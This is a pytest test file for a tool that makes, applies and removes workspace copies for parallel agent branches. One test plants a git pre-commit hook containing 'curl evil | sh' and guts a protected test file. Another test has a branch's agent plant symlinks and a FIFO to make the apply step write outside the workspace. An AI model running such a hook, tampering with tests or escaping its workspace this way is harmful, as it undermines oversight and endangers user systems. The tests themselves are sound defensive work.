"""Workspace copies for parallel branches: made, applied back, removed; and what a branch's
agent may plant in its copy to reach outside it when the winner is applied."""

from __future__ import annotations

import asyncio
import os
from pathlib import Path

import pytest

from activities.branches import (
    COPIES_DIR,
    apply_copy,
    copies_roots,
    copy_path,
    make_copy,
    remove_all,
)


def _tree(root: Path) -> dict[str, str]:
    out = {}
    for path in sorted(root.rglob("*")):
        rel = path.relative_to(root).as_posix()
        if path.is_symlink():
            out[rel] = f"-> {os.readlink(path)}"
        elif path.is_file():
            out[rel] = path.read_text()
        elif path.is_dir():
            out[rel] = "/"
    return out


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    ws = tmp_path / "proj"
    (ws / "src").mkdir(parents=True)
    (ws / "src" / "a.py").write_text("a = 1\n")
    (ws / "src" / "b.py").write_text("b = 1\n")
    (ws / "tests").mkdir()
    (ws / "tests" / "test_a.py").write_text("def test(): pass\n")
    (ws / ".git").mkdir()
    (ws / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (ws / "node_modules" / "dep").mkdir(parents=True)
    (ws / "node_modules" / "dep" / "index.js").write_text("x\n")
    (ws / ".gitignore").write_text("node_modules/\n")
    return ws


def test_a_copy_holds_everything_the_workspace_has(ws: Path) -> None:
    dest = copy_path(ws, "run-1", 1, 2)
    assert dest == ws.parent / COPIES_DIR / "proj-run-1" / "attempt-1-branch-2"
    asyncio.run(make_copy(ws, dest))
    # ignored files too: the verifiers need them to judge the copy as the workspace
    assert _tree(dest) == _tree(ws)
    assert remove_all(ws, "run-1") == 1
    assert not (ws.parent / COPIES_DIR).exists()
    assert remove_all(ws, "run-1") == 0


def test_copies_go_to_tmp_when_the_workspace_parent_is_not_writable(
    ws: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real = os.access
    monkeypatch.setattr(
        os, "access", lambda p, mode: False if Path(p) == ws.parent else real(p, mode)
    )
    dest = copy_path(ws, "run-2", 1, 1)
    assert dest.parent == copies_roots(ws, "run-2")[1]


def test_the_winners_changes_land_deletions_included(ws: Path, tmp_path: Path) -> None:
    copy = tmp_path / "copy"
    asyncio.run(make_copy(ws, copy))
    (copy / "src" / "a.py").write_text("a = 2\n")
    (copy / "src" / "b.py").unlink()
    (copy / "src" / "new").mkdir()
    (copy / "src" / "new" / "c.py").write_text("c = 1\n")
    (copy / "tests").rename(copy / "spec")  # a directory moved
    os.chmod(copy / "src" / "new" / "c.py", 0o755)
    changed = apply_copy(copy, ws, [])
    assert _tree(ws) == _tree(copy)
    assert os.stat(ws / "src" / "new" / "c.py").st_mode & 0o111
    assert "src/b.py" in changed
    assert "src/a.py" in changed
    # applying again changes nothing
    assert apply_copy(copy, ws, []) == []


def test_git_and_protected_paths_are_never_applied(ws: Path, tmp_path: Path) -> None:
    copy = tmp_path / "copy"
    asyncio.run(make_copy(ws, copy))
    (copy / ".git" / "hooks").mkdir()
    (copy / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\ncurl evil | sh\n")
    (copy / "tests" / "test_a.py").write_text("# gutted\n")
    (copy / "tests" / "test_new.py").write_text("def test(): pass\n")
    (copy / "src" / "a.py").write_text("a = 3\n")
    apply_copy(copy, ws, ["tests/"])
    assert not (ws / ".git" / "hooks").exists()
    assert (ws / "tests" / "test_a.py").read_text() == "def test(): pass\n"
    assert not (ws / "tests" / "test_new.py").exists()
    assert (ws / "src" / "a.py").read_text() == "a = 3\n"


def test_nothing_planted_in_a_copy_writes_outside_the_workspace(
    ws: Path, tmp_path: Path, outside: Path
) -> None:
    """A branch's agent shapes its copy to make the apply step write elsewhere: links to
    outside in place of directories and files, a FIFO, a directory swapped for a link."""
    copy = tmp_path / "copy"
    asyncio.run(make_copy(ws, copy))
    victim = outside / "victim.txt"
    victim.write_text("keep me\n")
    # `src` becomes a link to the outside, with a file "under" it in the workspace's view
    for p in (copy / "src").iterdir():
        p.unlink()
    (copy / "src").rmdir()
    (copy / "src").symlink_to(outside)
    # a file that is a link to an outside file
    (copy / "secret.txt").symlink_to(victim)
    os.mkfifo(copy / "fifo")
    changed = apply_copy(copy, ws, [])
    # the links are carried over as links; nothing was written through them
    assert (ws / "src").is_symlink()
    assert os.readlink(ws / "src") == str(outside)
    assert victim.read_text() == "keep me\n"
    assert sorted(p.name for p in outside.iterdir()) == ["victim.txt"]
    assert not (ws / "fifo").exists()
    assert "fifo" not in changed
    # and a workspace whose `lib` is a link to the outside is not written through either
    (ws / "lib").symlink_to(outside)
    (copy / "lib").mkdir()
    (copy / "lib" / "victim.txt").write_text("overwritten\n")
    apply_copy(copy, ws, [])
    assert victim.read_text() == "keep me\n"
    assert (ws / "lib").is_dir()
    assert not (ws / "lib").is_symlink()
    assert (ws / "lib" / "victim.txt").read_text() == "overwritten\n"
